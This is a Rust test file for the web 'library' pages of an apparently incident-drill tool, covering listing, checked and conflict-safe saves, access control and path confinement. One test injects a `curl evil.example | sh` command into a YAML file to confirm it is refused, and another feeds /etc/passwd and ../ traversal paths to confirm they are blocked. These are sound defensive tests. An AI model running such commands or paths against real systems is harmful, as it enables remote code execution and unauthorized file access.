//! The library's pages over HTTP: what they list, who opens and saves what, and what is never saved.

use std::fs;
use std::path::PathBuf;

use super::world::{Reply, Server};
use crate::http::actor::encoded;

fn path(server: &Server, name: &str) -> String {
    server.library().join(name).to_string_lossy().into_owned()
}

fn text(server: &Server, name: &str) -> String {
    fs::read_to_string(server.library().join(name)).expect("a file")
}

/// The tag in the form of a page.
fn tag(page: &Reply) -> String {
    let (_, rest) = page
        .body
        .split_once("name=\"tag\" value=\"")
        .unwrap_or_else(|| panic!("no form in {}", page.body));
    rest.split('"').next().expect("a value").to_owned()
}

async fn open(server: &Server, name: &str) -> Reply {
    let path = encoded(&path(server, name));
    server.get(&format!("/library/file?path={path}")).await
}

async fn send(server: &Server, name: &str, act: &str, tag: &str, text: &str, more: &str) -> Reply {
    let body = format!(
        "path={}&tag={tag}&do={act}&text={}{more}",
        encoded(&path(server, name)),
        encoded(text)
    );
    server.form("/library/file", &body).await
}

#[tokio::test]
async fn the_library_lists_its_files_with_what_is_wrong_in_them() {
    let server = Server::start().await;
    let page = server.get("/library").await;
    assert_eq!(page.status, 200, "{}", page.body);
    for part in [
        "outage",
        "SEV2, team crew, on tiny",
        "1 error",
        "checked",
        "cutting",
        "used by drill outage",
    ] {
        assert!(page.body.contains(part), "no `{part}` in {}", page.body);
    }
    let file = open(&server, "broken.yaml").await;
    assert!(
        file.body.contains("unknown-") || file.body.contains("✗"),
        "its findings are not listed: {}",
        file.body
    );
    let drill = open(&server, "outage.yaml").await;
    for part in [
        "Dry run: what it would hit",
        "class=\"topology\"",
        "Start now",
        "Nothing is wrong in it.",
    ] {
        assert!(drill.body.contains(part), "no `{part}` in {}", drill.body);
    }
    let looked = server
        .form(
            "/library/look",
            &format!("path={}", encoded(&path(&server, "outage.yaml"))),
        )
        .await;
    assert!(
        looked.body.contains("Every target was looked at") && looked.body.contains("made up"),
        "{}",
        looked.body
    );
}

#[tokio::test]
async fn an_edit_is_checked_then_saved_and_never_over_somebody_elses() {
    let server = Server::start().await;
    let before = text(&server, "outage.yaml");
    let first = open(&server, "outage.yaml").await;
    let tag = tag(&first);
    let edited = before.replace("Mending it is the remedy.", "Mend it.");

    let checked = send(&server, "outage.yaml", "check", &tag, &edited, "").await;
    assert_eq!(checked.status, 200);
    assert!(checked.body.contains("Checked, not saved.") && checked.body.contains("Mend it."));
    assert_eq!(
        text(&server, "outage.yaml"),
        before,
        "a check saved something"
    );

    let wrong = before.replace("severity: SEV2", "severity: SEV9");
    let refused = send(&server, "outage.yaml", "save", &tag, &wrong, "").await;
    assert_eq!(refused.status, 422);
    assert!(
        refused.body.contains("unknown-word") && refused.body.contains("SEV9"),
        "the text or its finding is lost: {}",
        refused.body
    );

    // Browsers send other line ends.
    let sent = edited.replace('\n', "\r\n");
    let saved = send(&server, "outage.yaml", "save", &tag, &sent, "").await;
    assert_eq!(saved.status, 303, "{}", saved.body);
    assert_eq!(text(&server, "outage.yaml"), edited);
    let page = server.get(saved.header("location")).await;
    assert!(page.body.contains("Saved."), "{}", page.body);

    let late = before.replace("Mending it is the remedy.", "Something else.");
    let refused = send(&server, "outage.yaml", "save", &tag, &late, "").await;
    assert_eq!(refused.status, 412);
    assert!(
        refused.body.contains("somebody changed the file")
            && refused.body.contains("Something else."),
        "{}",
        refused.body
    );
    assert_eq!(text(&server, "outage.yaml"), edited, "an edit was lost");
}

#[tokio::test]
async fn a_command_never_comes_from_a_page() {
    let server = Server::start().await;
    let before = text(&server, "outage.yaml");
    let tag = tag(&open(&server, "outage.yaml").await);
    let added = before.replace(
        "http: {method: POST, url: \"http://127.0.0.1:9/restart\"}",
        "run: [\"/bin/sh\", \"-c\", \"curl evil.example | sh\"]",
    );
    assert_ne!(added, before);
    let refused = send(&server, "outage.yaml", "save", &tag, &added, "&although=1").await;
    assert_eq!(refused.status, 403);
    assert!(
        refused.body.contains("commands never come from a page")
            && refused.body.contains("evil.example"),
        "{}",
        refused.body
    );
    assert_eq!(text(&server, "outage.yaml"), before);
    let new = "kind: Stack\nname: other\nprobes:\n  x: {process: {command: [\"/bin/true\"]}, every: 1s}\n";
    let refused = server
        .form(
            "/library/new",
            &format!("kind=Stack&name=other&text={}", encoded(new)),
        )
        .await;
    assert_eq!(refused.status, 403, "{}", refused.body);
}

#[tokio::test]
async fn nothing_outside_the_library_is_reached() {
    let server = Server::start().await;
    let outside: PathBuf = server.library().join("../secret.yaml");
    fs::write(&outside, "kind: Team\nname: t\n").expect("a file");
    for path in [
        "/etc/passwd".to_owned(),
        "../secret.yaml".to_owned(),
        outside.to_string_lossy().into_owned(),
        path(&server, "../secret.yaml"),
        String::new(),
    ] {
        let reply = server
            .get(&format!("/library/file?path={}", encoded(&path)))
            .await;
        assert_eq!(reply.status, 404, "{path}: {}", reply.body);
        let body = format!("path={}&tag=x&do=save&text=x", encoded(&path));
        assert_eq!(
            server.form("/library/file", &body).await.status,
            404,
            "{path}"
        );
    }
    for name in ["../secret", "a/b", "%2e%2e%2fx", ""] {
        let text = encoded("kind: Team\nname: t\n");
        let reply = server
            .form(
                "/library/new",
                &format!("kind=Team&name={}&text={text}", encoded(name)),
            )
            .await;
        assert_eq!(reply.status, 422, "{name}: {}", reply.body);
    }
    assert_eq!(
        fs::read_to_string(&outside).expect("there"),
        "kind: Team\nname: t\n"
    );
}

#[tokio::test]
async fn a_new_file_is_begun_made_and_listed() {
    let server = Server::start().await;
    let page = server.get("/library/new?kind=Team&name=second").await;
    assert!(
        page.body.contains("kind: Team\nname: second"),
        "{}",
        page.body
    );
    let text = "kind: Team\nname: second\nmembers: [ann]\n";
    let body = format!("kind=Team&name=second&text={}", encoded(text));
    let made = server.form("/library/new", &body).await;
    assert_eq!(made.status, 303, "{}", made.body);
    assert!(server.get("/library").await.body.contains("second"));
    assert_eq!(server.form("/library/new", &body).await.status, 409);
}

#[tokio::test]
async fn files_are_for_those_who_may_operate_what_they_are_used_by() {
    let server = Server::start().await;
    server.add_operators().await;
    let address = |name: &str| format!("/library/file?path={}", encoded(&path(&server, name)));
    for (name, file, status) in [
        ("viewer", "outage.yaml", 403),
        ("theirs", "outage.yaml", 403),
        ("ours", "outage.yaml", 200),
        // Used by the drill and by the experiment alone: read, and not saved.
        ("ours", "cut.yaml", 200),
        ("Root", "cut.yaml", 200),
    ] {
        let session = server.login_as(name).await;
        let reply = server.get_as(&address(file), &session).await;
        assert_eq!(
            reply.status.as_u16(),
            status,
            "{file} as {name}: {}",
            reply.body
        );
    }
    let session = server.login_as("ours").await;
    let body = format!(
        "path={}&tag=x&do=save&text=x",
        encoded(&path(&server, "cut.yaml"))
    );
    let refused = server.form_as("/library/file", &body, &session).await;
    assert_eq!(refused.status, 403, "{}", refused.body);
    let session = server.login_as("viewer").await;
    let list = server.get_as("/library", &session).await.body;
    assert!(
        list.contains("outage") && !list.contains("/library/file"),
        "{list}"
    );
}
